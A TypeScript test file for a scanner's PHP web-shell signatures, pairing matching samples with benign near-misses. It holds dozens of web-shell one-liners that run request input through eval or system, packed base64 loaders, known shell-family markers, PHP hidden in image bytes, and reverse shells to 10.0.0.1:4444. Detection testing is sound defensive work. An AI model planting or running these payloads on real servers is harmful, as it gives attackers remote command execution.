import { BASE64, HTML, MARKDOWN, PHP, TEXT, testSignatures } from '../../test/signature-rows.ts'
import { phpShellSignatures } from './php-shells.ts'

testSignatures(phpShellSignatures, {
  'php-eval-of-request': {
    hits: [
      [PHP, '<?php @ev¦al($_PO¦ST["x"]); ?>'],
      [PHP, "<?php\nif (isset($_REQ¦UEST['k'])) { ass¦ert(stripslashes($_REQ¦UEST['k'])); }"],
      [PHP, '<?php $c = base64_decode($_PO¦ST["c"]); ev¦al($c);'],
      [PHP, "<?php preg_re¦place('/x/e', $_G¦ET['c'], 'x');"],
      [PHP, "<?php $f = create_function('', $_PO¦ST['c']); $f();"],
      [PHP, "<?php create_function('$a', base64_decode($_PO¦ST['c']));"],
      [PHP, "<?php assert($_G¦ET['a']);"],
      [PHP, '<?php assert($_REQ¦UEST[a]);'],
      [PHP, "<?php preg_replace('/.*/e', $_PO¦ST['x'], '');"],
      [PHP, "<?php preg_replace(\"#a#e\", $_G¦ET['c'], 'a');"],
      [PHP, "<?php eval($_G¦ET['c']);"],
      [PHP, "<?php eval('?>' . $_PO¦ST['c']);"],
      [PHP, '<?php eval("{$_PO¦ST[\'c\']}");'],
      [PHP, "<?php @eval(base64_decode($_PO¦ST['c']));"],
      [PHP, "<?php /* it's */ ev¦al/* \" */($_PO¦ST['x']);"],
      [TEXT, "hello\n<?php ev¦al($_PO¦ST['x']);"],
      [MARKDOWN, "# Notes\n\n<?php ev¦al($_PO¦ST['x']); ?>\n"],
      ['application/octet-stream', "\x01\x02<?php ev¦al($_PO¦ST['x']); ?>"],
    ],
    nearMisses: [
      [HTML, '<p>Never write <code>&lt;?php ev¦al($_POST["x"]); ?&gt;</code></p>'],
      [
        PHP,
        "<?php\n// never ev¦al($_POST['x'])\n$rules = ['ev¦al($_POST[\"x\"])', \"sys¦tem($_GET['c'])\"];",
      ],
      [
        PHP,
        '<?php\nfunction eval_expression($tokens) { return $tokens; }\necho eval_expression($_POST["tokens"]);',
      ],
      [PHP, "<?php\nassert($ready);\n$page = $_GET['page'];\n$user = $_COOKIE['user'];"],
      [PHP, '<?php\n$text = preg_replace("#</?e#", $_GET[\'tag\'], $html);'],
      [PHP, "<?php\nassert(isset($_GET['id']));\nassert(is_string($_GET['id']));"],
      [PHP, "<?php\n# sys¦tem($_G¦ET['c']);\n/**\n * ev¦al($_PO¦ST['x']);\n */\n$q = $_GET['q'];"],
      [
        MARKDOWN,
        "# Web shells\n\nThe shortest is `<?php ev¦al($_PO¦ST['x']); ?>`.\n\n```php\n<?php sys¦tem($_GET['cmd']);\n```\n",
      ],
    ],
  },
  'php-command-of-request': {
    hits: [
      [PHP, '<?php sys¦tem($_G¦ET["cmd"]);'],
      [PHP, "<html><pre>\n<?php\n  echo shell_¦exec($_REQ¦UEST['cmd']);\n?></pre>"],
      [PHP, "<?php $cmd = $_G¦ET['cmd']; pass¦thru($cmd . ' 2>&1');"],
      [PHP, '<?php echo `$_G¦ET[0]`; ?>'],
      [PHP, '<?=`$_G¦ET[0]`?>'],
      [PHP, '<?=`$_G¦ET[0]`;'],
      [PHP, '<?= `{$_G¦ET["c"]}` ?>'],
      [PHP, '<?php echo `$_PO¦ST[c] 2>&1`;'],
      [PHP, '<?php `$_G¦ET[0]`;'],
      [PHP, "<?php popen($_G¦ET['c'], 'r');"],
      [PHP, "<?php echo fread(popen($_G¦ET['c'], 'r'), 4096);"],
      [PHP, "<?php $h = popen($_PO¦ST['c'],'r'); echo stream_get_contents($h);"],
      [PHP, "<?php pcntl_exec($_REQ¦UEST['p'], $_REQ¦UEST['a']);"],
      [PHP, "<?php pcntl_exec('/bin/sh', ['-c', $_REQ¦UEST['c']]);"],
      [PHP, '<?php pcntl_exec("/bin/bash", array("-c", $_G¦ET["c"]));'],
      [PHP, "<?php proc_open($_G¦ET['c'], [], $p);"],
      [PHP, "<?php $p = proc_open($_REQ¦UEST['c'], $spec, $pipes);"],
      [PHP, "<?php shell_exec($_G¦ET['c']);"],
      [PHP, "<?php echo shell_exec($_G¦ET['c']);"],
      [PHP, "<?php passthru($_G¦ET['c']);"],
      [PHP, "<?php system($_G¦ET['c']);"],
      [PHP, "<?php exec($_G¦ET['c'], $o); print_r($o);"],
      [PHP, "<?php die(system($_G¦ET['c']));"],
      [PHP, "<?php print_r(shell_exec($_G¦ET['c']));"],
      [PHP, "<?php var_dump(exec($_G¦ET['c']));"],
      [PHP, "<?php if(isset($_G¦ET['c'])) system($_G¦ET['c']);"],
      [PHP, "<?php if(isset($_G¦ET['c'])){ system($_G¦ET['c']); }"],
      [PHP, "<?php system($_G¦ET['c'] . ' 2>&1');"],
      [PHP, "<?php system('cmd /c ' . $_G¦ET['c']);"],
      [PHP, '<?php system("/bin/sh -c " . $_G¦ET[\'c\']);'],
      [PHP, '<?php system("{$_G¦ET[\'c\']}");'],
      [PHP, '<?php system("$_G¦ET[c] 2>&1");'],
      [PHP, "<?php \\system($_G¦ET['c']);"],
      [PHP, "<?php $c = $_G¦ET['c']; system($c);"],
      [PHP, "<?php\n$c = $_G¦ET['c'];\nsystem($c);"],
      [PHP, "<?php\n$cmd = isset($_G¦ET['c']) ? $_G¦ET['c'] : '';\nsystem($cmd);"],
      [PHP, "<?php\n$cmd = $_G¦ET['c'] ?? 'id';\necho shell_exec($cmd);"],
      [PHP, "<? system($_G¦ET['c']); ?>"],
      [PHP, "<?PHP SYSTEM($_G¦ET['c']); ?>"],
      [PHP, "<?php sYsTeM($_G¦ET['c']);"],
      [PHP, "<?php system($_SERVER['HT¦TP_X']);"],
      [PHP, '<?php system(end($_G¦ET));'],
      [PHP, '<?php system(current($_PO¦ST));'],
      [PHP, '<?php sys¦tem/**/($_G¦ET[0]);'],
      [PHP, '<?php sys¦tem/**//**//**//**//**/(/* a */ $_G¦ET[0]);'],
      [PHP, '<?php sys¦tem // a\n# b\n\n\n\n\n(      $_G¦ET[0]);'],
      [PHP, `<?php // ${'a'.repeat(300)}\n$c = $_G¦ET['c']; /* ${'a'.repeat(300)} */ sys¦tem($c);`],
      [PHP, '<?=`id;$_G¦ET[0]`?>'],
      [PHP, '<?php echo `cd /tmp && $_G¦ET[0]`;'],
    ],
    nearMisses: [
      [PHP, '<?php\n$sql = "SELECT `$_GET[column]` FROM t";'],
      [PHP, "<?php\n$sql = 'SELECT * FROM `' . $_GET['table'] . '`';"],
      [PHP, "<?php\n$db->query(\"UPDATE t SET a = '{$_POST['a']}'\n  WHERE `id` = {$_POST['id']}\");"],
      [PHP, '<?php\n$sql = "SELECT\n`$_GET[column]` FROM t";'],
      [PHP, '<?php $sql = "SELECT {$x} `$_GET[c]` FROM (a) `$_GET[t]`";'],
      [PHP, '<?php\n$log = `git log -n 5 $_GET[branch]`;'],
      [PHP, "<?php\n$url = 'http://a.test/*'; $name = $_GET['name']; // sys¦tem($_G¦ET['c']);\n$b = '*/';"],
      [
        MARKDOWN,
        "# Shells\n\n`<?=`$_G¦ET[0]`?>` and `include($_G¦ET['f'])`:\n\n```php\n<?php popen($_G¦ET['c'], 'r');\n```\n",
      ],
    ],
  },
  'php-runs-header-or-body': {
    hits: [
      [PHP, "<?php ev¦al(file_get_contents('php://in¦put'));".replace('<?php ', '<?php\n')],
      [PHP, "<?php exec(getall¦headers()['X']);"],
      [PHP, "<?php system(getenv('HT¦TP_X_CMD'));"],
      [PHP, "<?php eval(getall¦headers()['X']);"],
      [PHP, "<?php system(filter_input(INPUT_G¦ET, 'c'));"],
      [PHP, "<?php echo system(file_get_contents('php://in¦put'));"],
    ],
    nearMisses: [
      [PHP, "<?php\n$handler = getenv('HANDLER'); exec('git pull'); $host = getenv('HTTP_HOST');"],
      [
        PHP,
        "<?php\n$body = json_decode(file_get_contents('php://input'), true);\n$id = filter_input(INPUT_GET, 'id', FILTER_VALIDATE_INT);",
      ],
    ],
  },
  'php-packed-loader': {
    hits: [
      [PHP, `<?php ev¦al(gzin¦flate(base64_de¦code('${BASE64}')));`],
      [PHP, `<?php\n@ev¦al(base64_de¦code("${BASE64}"));`],
      [PHP, `<?php $p = '${BASE64}';\nev¦al(gzun¦compress(base64_de¦code($p)));`],
    ],
    nearMisses: [
      [
        PHP,
        `<?php\n/* Plugin Name: Gallery */\n$icon = 'data:image/svg+xml;base64,${BASE64}';\nadd_menu_page('Gallery', base64_decode($icon));`,
      ],
    ],
  },
  'php-hidden-names': {
    hits: [
      [PHP, `<?php $f = "b"."as"."e6"."4_"."de"."co"."de"; $p = '${BASE64}';\nev¦al($f($p));`],
      [
        PHP,
        '<?php ${"\\x47\\x4cOBALS"}["a"] = "\\x61\\x62\\x63\\x64\\x65\\x66"; $b = ${"\\x47\\x4cOBALS"}["\\x61\\x62\\x63\\x64\\x65\\x66"]; ${"\\x47\\x4cOBALS"}["c"] = ["\\x61\\x62\\x63\\x64\\x65\\x66"]; d("\\x61\\x62\\x63\\x64\\x65\\x66"); e("\\x61\\x62\\x63\\x64\\x65\\x66"); ev¦al($b);',
      ],
    ],
    nearMisses: [[PHP, "<?php\neval('$x = 1;');\n$name = 'a' . 'b' . 'c' . 'd' . 'e';"]],
  },
  'php-shell-family': {
    hits: [
      [PHP, '<?php // c99sh¦_getupdate c99sh¦cook\nfunction c99ftp¦brutecheck() {}'],
      [
        PHP,
        "<?php define('WSO_¦VERSION', '2.5'); $auth_¦pass = ''; function action¦SecInfo() {} // Files¦Man",
      ],
      [PHP, '<?php // b37¦4k\n$GLOBALS[\'pass\'] = "x"; $code = gzin¦flate(base64_decode($c));'],
    ],
    nearMisses: [
      [PHP, "<?php\n// Blocks c99sh_getupdate, b374k and FilesMan.\n$blocked = ['r57shell', 'weevely'];"],
    ],
  },
  'php-reverse-shell': {
    hits: [
      [PHP, '<?php $s = fsock¦open("10.0.0.1", 4444); ex¦ec("/bin/sh -i <&3 >&3 2>&3");'],
      [
        PHP,
        '<?php $s = fsock¦open("10.0.0.1", 4444); $p = proc_¦open("/bin/bash -i", [$s, $s, $s], $pipes);',
      ],
      [
        PHP,
        '<?php $s = fsock¦open($ip, $port); $p = proc_¦open($shell, $spec, $pipes); $shell = "uname -a; w; id; /bin/sh -i"; stream_select($r, $w, $e, null);',
      ],
    ],
    nearMisses: [
      [
        PHP,
        "<?php\n$fp = fsockopen('smtp.example.com', 25);\nfwrite($fp, \"HELO\\r\\n\");\n$proc = proc_open('sendmail -t', $spec, $pipes);",
      ],
      [
        PHP,
        '<?php $s = fsockopen("smtp.example.com", 25); $p = proc_open("/usr/sbin/sendmail -t", $spec, $pipes);',
      ],
    ],
  },
  'php-inside-image': {
    hits: [
      ['image/gif', "GIF89a....<?php ev¦al($_PO¦ST['x']); ?>"],
      ['image/jpeg', "\xff\xd8\xff\xe1 Exif <?php sys¦tem($_G¦ET['c']); ?>"],
    ],
    nearMisses: [['image/svg+xml', '<svg><text>Never write &lt;?php system($_GET["c"]);</text></svg>']],
  },
})
